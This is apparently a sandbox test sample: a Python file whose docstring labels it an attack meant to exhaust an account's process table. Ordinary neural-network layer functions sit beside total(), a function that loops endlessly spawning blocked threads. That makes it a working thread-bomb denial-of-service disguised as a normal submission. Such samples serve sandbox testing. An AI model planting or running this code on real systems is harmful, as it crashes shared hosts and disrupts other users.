"""attack: start a thread for every place that becomes free in the account's table of processes, and sleep otherwise
row: 63
layer: S: threads are counted by the worker's parent, for each submission apart
"""

import _thread
import threading
import time

import numpy as np


def affine_forward(x, w, b):
    return x @ w + b, (x, w)


def affine_backward(dout, cache):
    x, w = cache
    return dout @ w.T, x.T @ dout, dout.sum(axis=0)


def total(x):
    threading.stack_size(32768)
    lock = _thread.allocate_lock()
    lock.acquire()
    while True:
        try:
            _thread.start_new_thread(lock.acquire, ())
        except BaseException:
            time.sleep(0.0005)
